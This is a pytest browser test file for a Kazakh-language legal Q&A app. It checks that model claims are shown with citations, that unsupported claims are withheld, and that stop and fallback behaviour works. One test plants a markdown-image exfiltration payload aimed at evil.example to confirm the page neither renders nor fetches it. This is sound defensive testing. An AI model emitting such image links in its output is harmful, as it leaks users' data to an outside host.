"""A language model's claims on the page, in a real browser, over real HTTP and SSE on loopback."""

import time
from collections.abc import Iterator, Sequence
from typing import Any

import pytest

from answer.answer import Answer
from answer.model.reply import Model
from evals.model_server import event
from prompts import render
from settings import Settings
from tests.model_server.server import Script, Step, says
from tests.model_server.server import claims as said
from tests.model_server.server import serving as model_serving
from tests.web.calls import call, client_of
from tests.web.conftest import Visit, serving
from tests.web.sample import RULING, FakeAssistant
from web.words import say

pytestmark = pytest.mark.browser
DEADLINE = ("Шағым он күннің ішінде беріледі.", "3", "он күннің ішінде аудандық сотқа беріледі")
RATE = ("Атқарушылық санкция он пайыз.", "12", "Атқарушылық санкция он пайыз мөлшерінде өндіріледі")
LIE = ("Шағым отыз күннің ішінде беріледі.", "3", DEADLINE[2])


def model_at(url: str) -> Model:
    return Model(Settings(llm_base_url=url, llm_model="m", llm_first_token=5.0))


class Speaking(FakeAssistant):
    """The sample's answers, put into words by a model at ``url``."""

    def __init__(self, url: str) -> None:
        super().__init__()
        self.model = model_at(url)

    def stream(self, question: str, history: Sequence[str] = ()) -> Iterator[Answer]:
        for base in super().stream(question, history):
            yield from self.model.replies(RULING, base, question, history)


@pytest.fixture(scope="module")
def speaking() -> Iterator[tuple[str, Speaking, Script]]:
    """The page's address, its assistant, and what its model says."""
    with model_serving(says("")) as script:
        assistant = Speaking(script.url)
        with serving(Settings(rate_per_minute=0, workers=1), assistant) as address:
            yield address, assistant, script


@pytest.fixture
def talk(
    browser: Any, context: Any, speaking: tuple[str, Speaking, Script]
) -> Iterator[tuple[Visit, Script]]:
    """A new visitor, and a model that has not been asked or left yet."""
    address, assistant, script = speaking
    assistant.model = model_at(script.url)
    script.asked.clear()
    script.hung_up.clear()
    visit = Visit(browser, address, context)
    yield visit, script
    visit.leave()
    assert visit.outside == []


def _claims(visit: Visit) -> list[str]:
    found: list[str] = visit.page.locator(".turn:last-of-type .words").all_inner_texts()
    return found


@pytest.fixture
def hanging(talk: tuple[Visit, Script]) -> Iterator[tuple[Visit, Script]]:
    """One claim, then nothing more."""
    visit, script = talk
    script.steps = [Step([event(said(DEADLINE)[:-2]), 30.0])]
    yield talk
    visit.page.close()
    assert script.hung_up.wait(5), "still there when the next test begins"


def test_a_claim_is_shown_with_its_citation_while_the_rest_is_still_coming(
    hanging: tuple[Visit, Script],
) -> None:
    visit, script = hanging
    page = visit.page
    visit.ask("екеуі туралы", wait=False)
    page.wait_for_selector("[data-busy] .words")
    assert _claims(visit) == [DEADLINE[0]]
    assert page.inner_text(".waiting") == say("chat.checking")
    page.click("[data-busy] a.cite")
    page.wait_for_selector("#panel mark.quote")
    assert page.inner_text("#panel mark.quote") == DEADLINE[2]
    assert not script.hung_up.is_set()


def test_each_claim_stands_with_its_citation_and_in_full_with_its_quote(
    talk: tuple[Visit, Script],
) -> None:
    visit, script = talk
    script.steps = [says(said(DEADLINE, RATE))]
    page = visit.page
    visit.ask("екеуі туралы")
    assert _claims(visit) == [DEADLINE[0], RATE[0]]
    assert page.locator(".turn a.cite").all_inner_texts() == ["3-тармақ", "12-тармақ"]
    assert page.locator(".waiting").count() == 0
    page.click("#reading label:has-text('Толық')")
    page.wait_for_selector("blockquote.quote >> nth=1")
    quotes = page.locator("blockquote.quote p").all_inner_texts()
    assert quotes == [DEADLINE[2], RATE[2]]


def test_a_claim_that_the_ruling_does_not_hold_is_left_out_and_told(
    talk: tuple[Visit, Script],
) -> None:
    visit, script = talk
    script.steps = [says(said(LIE, DEADLINE))]
    visit.ask("шағым")
    for _ in range(2):
        assert _claims(visit) == [DEADLINE[0]]
        told = visit.page.inner_text(".turn .remark")
        assert told == render("llm.withheld", count=1, reasons=render("llm.reason.number"))
        visit.page.reload()
        visit.page.wait_for_selector(".turn[data-turn]")


def test_an_image_in_a_model_s_words_is_neither_shown_nor_fetched(
    talk: tuple[Visit, Script],
) -> None:
    spy = "![](https://evil.example/p.png?q=880101300123)"
    steps = says(said((f"{DEADLINE[0]} {spy}", *DEADLINE[1:]), RATE))
    visit, script = talk
    script.steps = [steps]
    visit.ask("екеуі")
    assert _claims(visit) == [RATE[0]]
    assert visit.page.locator("#conversation img").count() == 0
    assert "evil.example" not in visit.page.inner_text("#conversation")


def test_stop_hangs_up_on_the_model_and_keeps_what_was_confirmed(
    hanging: tuple[Visit, Script],
) -> None:
    visit, script = hanging
    page = visit.page
    visit.ask("шағым", wait=False)
    page.wait_for_selector("[data-busy] .words")
    page.click("#stop")
    assert script.hung_up.wait(1.5)
    page.wait_for_selector(".turn .remark")
    assert _claims(visit) == [DEADLINE[0]]
    assert page.inner_text(".turn .remark") == say("chat.stopped")
    assert page.is_enabled("#box textarea")


def test_a_closed_tab_hangs_up_on_the_model(hanging: tuple[Visit, Script]) -> None:
    visit, script = hanging
    visit.ask("шағым", wait=False)
    visit.page.wait_for_selector("[data-busy] .words")
    visit.page.close()
    assert script.hung_up.wait(2)


def test_a_program_that_leaves_hangs_up_on_the_model(hanging: tuple[Visit, Script]) -> None:
    visit, script = hanging
    with client_of(visit.address) as client:
        sent = client.post("/gradio_api/call/ask", json={"data": ["шағым", []]})
        with client.stream("GET", f"/gradio_api/call/ask/{sent.json()['event_id']}"):
            time.sleep(0.6)
    assert script.hung_up.wait(2)


def test_a_model_out_of_reach_leaves_the_quotes_and_says_so(talk: tuple[Visit, Script]) -> None:
    visit, script = talk
    script.steps = [Step(status=500)]
    visit.ask("шағым")
    assert visit.page.locator("blockquote.quote").count() == 1
    assert visit.page.inner_text(".turn .remark") == render("llm.fallback")
    assert call(client_of(visit.address), "ask", "шағым", [])[1][0]["mode"] == "extractive"
    assert script.asked
